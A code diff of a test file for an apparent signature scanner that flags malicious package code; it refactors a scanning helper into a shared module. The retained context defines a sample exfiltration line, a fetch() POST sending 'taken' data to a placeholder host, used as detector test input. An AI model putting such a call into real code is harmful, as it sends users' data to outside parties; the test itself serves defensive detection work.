@@ -1,21 +1,7 @@
-import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import type { Package } from '../../../src/model/index.js';
-import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
-import { memoryTree } from '../../support/memory-tree.js';
 import { packageOf } from '../../support/model-builders.js';
-
-const signatures = completeSet(
-  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
-);
-
-async function rulesIn(
-  files: Readonly<Record<string, string>>,
-  packages: readonly Package[] = [],
-): Promise<string[]> {
-  const { findings } = await scanSignatures({ tree: memoryTree(files), packages, signatures });
-  return findings.map(({ rule }) => rule);
-}
+import { rulesIn } from '../../support/rules-in.js';
 
 const SEND = "fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(taken) })";
 
